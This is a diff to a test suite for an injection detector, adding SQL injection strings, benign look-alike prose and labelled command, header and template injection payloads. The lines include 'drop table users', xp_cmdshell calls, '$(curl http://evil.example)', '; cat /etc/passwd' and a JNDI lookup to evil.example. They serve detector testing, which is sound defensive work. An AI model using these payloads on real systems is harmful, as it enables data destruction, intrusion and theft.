@@ -89,6 +89,11 @@ def test_tokens(text, kinds):
         "' or 1=1--", "admin'--", "1 union select 1,2", "1;drop table users", "x' and sleep(5)#",
         "') or ('a'='a", '" or ""="', "1 and (select 1 from users)=1", "' order by 3--", "1' || '1'='1",
         "1 or 1=1 /* x", "';exec xp_cmdshell 'dir'--", "1;waitfor delay '0:0:5'",
+        "1a union (select id from users limit 1,1)", "1::real union select * from users",
+        "-(1) is not unknown having 1 union select name from users limit 1", "x'1' union select 1",
+        "1;print 'a'; exec xp_cmdshell 'dir'", "x'; set a=1; drop table users--", "x'; shutdown;",
+        "1'+(select a where 1=1 and 2=(select count(*) from users t1))+'", "1';begin user_lock.sleep(5); end--",
+        "1';select like('abc',upper(hex(randomblob(500000000/2)))) and 'a'='a",
     ],
 )  # fmt: skip
 def test_values_that_go_on_in_sql_are_found(text):
@@ -103,6 +108,10 @@ def test_values_that_go_on_in_sql_are_found(text):
         "6'2\" or 6'3\"", "it's 5 o'clock; select your poison", "'to be' -- Shakespeare",
         "SELECT name FROM users WHERE id = 5", "x == '' or y == ''", "1 or 2 people", "and 1",
         "if len(x) > 1 and abs(y) < 2:", "a' b or c", "student union select committee",
+        "the union selects a leader; select one from the list", "jobs union: select members only",
+        "Can I union select two columns from tables?", "select; then drop table saw; and more",
+        "foo bar'# baz", '"LIKE" STAMP', "exec@shop.example", "select (item where all agree)",
+        "x = load(f); if (strcmp(a, b) != 0) r = 1; free(x);", "teachers'# twelve of them",
     ],
 )  # fmt: skip
 def test_names_prose_and_programs_pass(text):
@@ -141,9 +150,12 @@ def test_a_tag_in_quotes_is_seen_both_ways():
         ("..%2f..%2f..%2fetc%2fpasswd", "path"),
         ("; cat /etc/passwd", "command"),
         ("$(curl http://evil.example)", "command"),
+        ("cmd=127.0.0.1 && ls /etc", "command"),
+        ("|/usr/bin/id|", "command"),
         ("http://169.254.169.254/latest/meta-data/", "ssrf"),
         ("http://0x7f.1/", "ssrf"),
         ("x\r\nSet-Cookie: a=b", "header"),
+        ("x\r\nRCPT TO: <x@evil.example>\r\n", "header"),
         ("{{7*7}}", "template"),
         ("${jndi:ldap://evil.example/a}", "template"),
         ('{"$gt": ""}', "nosql"),
